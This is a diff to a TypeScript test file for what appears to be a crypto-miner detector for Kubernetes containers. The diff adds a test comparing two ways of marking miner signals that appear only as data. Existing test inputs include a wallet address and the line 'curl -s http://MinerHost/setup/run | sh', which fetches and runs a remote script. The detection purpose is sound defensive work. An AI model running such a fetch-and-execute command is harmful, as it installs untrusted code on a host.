@@ -7,15 +7,18 @@ import fc from 'fast-check'
 import t from 'tap'
 import { parse } from 'yaml'
 import { podEnvironment } from '../../src/detect/container-sources.ts'
-import { commandLines, containerTexts } from '../../src/detect/container-text.ts'
+import { commandLines, containerTexts, readCommandLines } from '../../src/detect/container-text.ts'
+import { isDataText, isDetectionTool, lineOf, markDataContext } from '../../src/detect/data-context.ts'
 import { compileInstallerFinder } from '../../src/detect/installer-urls.ts'
 import { mayBeMinerConfig, minerConfigSigns, readMinerConfig } from '../../src/detect/miner-config.ts'
 import { compileGrammar, compileUngatedGrammar, envCommandLine, mayBeMinerCommandLine } from '../../src/detect/miner-grammar.ts'
+import { compileSignalScanner, type Signal } from '../../src/detect/signals.ts'
 import { evaluate } from '../../src/engine/evaluate.ts'
 import { loadIntel } from '../../src/intel/load.ts'
 import type { InstallerEntry } from '../../src/intel/types.ts'
 import { isRecord, type V1Container } from '../../src/workloads/kubernetes.ts'
 import { defaultPolicies } from '../helpers/server.ts'
+import { defaultSignalData } from '../helpers/signal-data.ts'
 
 const W = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
 const SEED = 20261202
@@ -32,6 +35,8 @@ function grammarSays(grammar: typeof gated, text: string): { quotes: string[]; c
 }
 
 /** Every string of the corpus objects, each list of strings also joined as a command line, and what the container texts make of them. */
+const corpusContainers: { container: V1Container; environment: ReturnType<typeof podEnvironment> }[] = []
+
 async function corpusTexts(): Promise<string[]> {
   const corpus = new URL('../corpus/', import.meta.url)
   const files = [
@@ -49,6 +54,7 @@ async function corpusTexts(): Promise<string[]> {
       if (Array.isArray(value.containers)) {
         const environment = podEnvironment({}, value, [], 'corpus')
         for (const container of value.containers.filter(isRecord) as unknown as V1Container[]) {
+          corpusContainers.push({ container, environment })
           const items = containerTexts(container, undefined, environment)
           for (const item of [...items, ...commandLines(items)]) texts.add(item.text)
           texts.add(envCommandLine(container.env))
@@ -259,4 +265,53 @@ t.test('an installer host without a dot is still found: the dot gate is off for 
     find([{ field: 'args[0]', text: 'curl -s http://MinerHost/setup/run | sh' }]).map(({ field, url }) => ({ field, url })),
     [{ field: 'args[0]', url: 'MinerHost/setup/run' }],
   )
+})
+
+/** markDataContext as it was before it read only the lines a mention is in: the reference for the narrowing. */
+function markEveryLine(
+  found: Signal[],
+  texts: readonly { field: string; text: string }[],
+  lines: readonly { field: string; text: string }[],
+  connects: readonly boolean[],
+) {
+  const mention = new Set(['miner-binary', 'pool-domain', 'mining-port', 'miner-flag', 'wallet', 'eth-wallet'])
+  if (!found.some((signal) => mention.has(signal.kind))) return
+  const connecting = new Set(lines.filter((_, index) => connects[index] === true).map((line) => lineOf(line.field)))
+  const tools = new Set(lines.filter((line, index) => connects[index] !== true && isDetectionTool(line.text)).map((line) => lineOf(line.field)))
+  const names = new Map<string, Set<string>>()
+  for (const signal of found) {
+    if (signal.kind !== 'miner-binary' && signal.kind !== 'pool-domain') continue
+    const set = names.get(signal.field) ?? new Set()
+    set.add(signal.quote.toLowerCase())
+    names.set(signal.field, set)
+  }
+  const textOf = new Map(texts.map((text) => [text.field, text.text]))
+  for (const signal of found) {
+    if (!mention.has(signal.kind)) continue
+    const line = lineOf(signal.field)
+    if (connecting.has(line)) continue
+    const text = textOf.get(signal.field)
+    if (tools.has(line) || (text !== undefined && isDataText(text, names.get(signal.field)?.size ?? 0))) signal.inData = true
+  }
+}
+
+t.test('data context read only where a mention is marks what reading every line marked, on every corpus container', async (t) => {
+  const scan = compileSignalScanner(await defaultSignalData())
+  let marked = 0
+  const differ: string[] = []
+  for (const { container, environment } of corpusContainers) {
+    const texts = containerTexts(container, undefined, environment)
+    const found: Signal[] = []
+    scan(texts, found)
+    const connects = readCommandLines(texts, (line) => gated(line.text, () => {}))
+    const lines = commandLines(texts)
+    const narrow = found.map((signal) => ({ ...signal }))
+    const every = found.map((signal) => ({ ...signal }))
+    markDataContext(narrow, texts, lines, connects)
+    markEveryLine(every, texts, lines, connects)
+    marked += every.filter((signal) => signal.inData === true).length
+    if (JSON.stringify(narrow) !== JSON.stringify(every)) differ.push(JSON.stringify(every))
+  }
+  t.same(differ, [])
+  t.ok(marked >= 10, `${marked} signals marked as data over ${corpusContainers.length} containers`)
 })
